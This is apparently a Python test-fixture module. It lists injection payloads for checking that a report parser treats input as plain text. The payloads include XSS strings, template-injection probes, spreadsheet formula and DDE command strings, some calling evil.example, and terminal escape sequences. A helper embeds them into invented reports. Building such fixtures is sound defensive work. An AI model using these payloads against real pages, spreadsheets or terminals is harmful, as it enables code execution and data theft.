"""Words that would do harm where a page, a spreadsheet or a terminal took them for more than words."""

from __future__ import annotations

SCRIPTS = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    "<svg onload=alert(4)>",
    "<svg><script>alert(5)</script></svg>",
    '"><script>alert(6)</script>',
    "'><img src=x onerror=alert(7)>",
    '" onmouseover="alert(8)',
    "' autofocus onfocus='alert(9)",
    "javascript:alert(10)",
    '<a href="javascript:alert(11)">x</a>',
    "<iframe src=javascript:alert(12)></iframe>",
    "<body onload=alert(13)>",
    "<input autofocus onfocus=alert(14)>",
    "<details open ontoggle=alert(15)>",
    '<math><mi xlink:href="javascript:alert(16)">x</mi></math>',
    "{{ 7 * 191 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<form action=https://evil.example><input name=q>",
    "<object data=javascript:alert(24)></object>",
    "</title><script>alert(25)</script>",
    "</textarea><script>alert(26)</script>",
    "<!--><script>alert(27)</script>-->",
    "&lt;script&gt;alert(28)&lt;/script&gt;",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd","/C calc","x")',
    '=WEBSERVICE("https://evil.example")',
    '=IMPORTXML("https://evil.example","//a")',
    '=IMPORTDATA("https://evil.example")',
    '=INDIRECT("A1")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "';=1+1",
    '=1+1";=1+1',
    "＝1+1",
    "{=1+1}",
    '=EXEC("calc")',
)
TERMINAL = (
    "\x1b[2J",
    "\x1b]0;owned\x07",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\x1b[31mred\x1b[0m",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x9b2J",
    "\x07bell",
    "\x08\x08\x08gone",
    "\x1bPq#0\x1b\\",
    "\u202eesrever",
    "\u2066hidden\u2069",
    "\x1b[?1049h",
)
ALL = (*SCRIPTS, *FORMULAS, *TERMINAL)


def paper(number: int, harm: str) -> str:
    """An invented paper that says the words where an item, its owner, its date and its progress would stand."""
    blocks = (f"Report {number} {harm}", f"1. Ask the board {harm} to report", f"Owner: {harm}", f"Done: {harm} so far")
    return "\n\n".join(blocks)
